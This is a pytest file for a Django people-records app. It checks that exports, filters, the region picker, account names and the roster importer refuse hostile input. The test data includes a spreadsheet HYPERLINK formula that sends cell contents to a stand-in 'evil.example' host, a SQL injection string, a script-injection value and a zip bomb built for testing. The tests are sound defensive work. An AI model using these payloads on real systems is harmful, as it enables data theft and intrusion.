"""Hostile input: formulas in exported cells, forged client addresses, malformed parameters,
zip bombs, look-alike account names. Each gets a clear answer and changes nothing."""

import io
import subprocess
import sys
import zipfile

import openpyxl
import pytest
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation

from lingtouyang.accounts.models import User
from lingtouyang.accounts.services import user_create
from lingtouyang.audit.middleware import client_address
from lingtouyang.audit.models import AuditEvent
from lingtouyang.people.importer import import_roster
from lingtouyang.people.models import Person
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&D2,"x")'


def test_exported_cells_are_text_never_formulas(client, users):
    factories.make_person(factories.TANBA, name=FORMULA_NAME)
    client.force_login(users["county"])
    response = client.get(reverse("people:export"), {"full_id": "1"})
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.value == FORMULA_NAME and cell.data_type == "s"


@pytest.mark.parametrize(
    ("remote", "header", "trusted", "expected"),
    [
        ("203.0.113.5", "198.51.100.7", set(), "203.0.113.5"),  # not from a trusted proxy: header ignored
        ("10.0.0.2", "198.51.100.7", {"10.0.0.2"}, "198.51.100.7"),
        ("10.0.0.2", "-x" * 50, {"10.0.0.2"}, "10.0.0.2"),  # garbage in the header: the proxy's address
        ("10.0.0.2", "2001:db8::1", {"10.0.0.2"}, "2001:db8::1"),
    ],
)
def test_client_address_trusts_only_configured_proxies(settings, remote, header, trusted, expected):
    settings.TRUSTED_PROXIES = frozenset(trusted)
    request = RequestFactory().get("/", REMOTE_ADDR=remote, HTTP_X_REAL_IP=header)
    assert client_address(request) == expected


@pytest.mark.parametrize("region", ["5105021", "x' OR 1=1 --", "1" * 13, "５１０５"])
def test_a_malformed_region_filter_is_refused_and_audits_nothing(client, users, region):
    client.force_login(users["city"])
    before = AuditEvent.objects.exclude(action__startswith="access.").count()
    if region == "5105021":  # well-formed: a plain filter
        assert client.get(reverse("people:export"), {"region": region}).status_code == 200
        return
    response = client.get(reverse("people:export"), {"region": region})
    assert response.status_code == 400
    assert AuditEvent.objects.exclude(action__startswith="access.").count() == before
    assert client.get(reverse("people:list"), {"region": region}).status_code == 200
    assert client.get(reverse("api:person-list"), {"region": region}).status_code == 400


def test_api_person_filter_refuses_huge_ids(client, users):
    client.force_login(users["city"])
    assert client.get(reverse("api:appointment-list"), {"person": "9" * 30}).status_code == 400
    assert client.get(reverse("api:appointment-list"), {"person": "abc"}).status_code == 400


def test_api_create_without_id_number_is_a_400(client, users):
    client.force_login(users["township"])
    response = client.post(reverse("api:person-list"), {
        "name": "李四", "ethnicity": "01", "political_status": "13", "education": "60", "region": factories.TANBA,
    })
    assert response.status_code == 400 and "id_number" in response.json()
    assert not Person.objects.exists()


def test_region_picker_target_cannot_carry_script(client, users):
    client.force_login(users["township"])
    response = client.get(reverse("regions:lookup"), {"q": "tb", "target": "x');alert(1);//"},
                          HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert "alert" not in body and "谭坝村" in body


def test_a_refused_reveal_from_the_page_is_audited(client, users):
    person = factories.make_person(factories.TANBA)
    client.force_login(users["township"])  # sees the person, may not see full numbers
    assert client.post(reverse("people:reveal_id", args=[person.id])).status_code == 403
    event = AuditEvent.objects.get(action="person.view_full_id")
    assert (event.outcome, event.actor) == ("denied", users["township"])


def test_account_names_are_validated_and_unique_whatever_the_case(db):
    from django.core.exceptions import ValidationError

    user_create(acting_user=None, username="yusi", role="township_officer", region_code="510521102",
                password="x", check_password=False)
    for bad in ["YUSI", "Wang Wu/<x>"]:
        with pytest.raises(ValidationError):
            user_create(acting_user=None, username=bad, role="township_officer", region_code="510521102",
                        password="x", check_password=False)
    assert User.objects.count() == 1


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, db):
    path = tmp_path / "bomb.xlsx"
    from tests.people.xlsx_files import row, write_roster

    write_roster(path, [row()])
    # Re-pack with a styles part (which the reader parses whole) inflating to 150 MB from a few hundred KB.
    bomb = tmp_path / "bomb2.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/styles.xml":
                data = data.replace(b"</styleSheet>", b"<!--" + b"A" * (150 * 2**20) + b"--></styleSheet>")
            dst.writestr(item, data)
    assert bomb.stat().st_size < 2 * 2**20
    with translation.override("en"):
        result = import_roster(bomb)
    assert not result.ok and "unpacks to far more" in result.problems[0].reason
    assert not Person.objects.exists()


def test_half_configured_keys_stop_the_program(tmp_path):
    env = {"PATH": "/usr/bin:/bin", "LINGTOUYANG_VAR": str(tmp_path), "SECRET_KEY": "only-this-one"}
    run = subprocess.run([sys.executable, "-m", "lingtouyang", "check"], env=env, capture_output=True, text=True,
                         timeout=60)
    assert run.returncode != 0 and "set all of" in run.stderr
    env.update(FIELD_ENCRYPTION_KEY="c2hvcnQ=", BLIND_INDEX_KEY="c2hvcnQ=")
    run = subprocess.run([sys.executable, "-m", "lingtouyang", "check"], env=env, capture_output=True, text=True,
                         timeout=60)
    assert run.returncode != 0 and "32 random bytes" in run.stderr
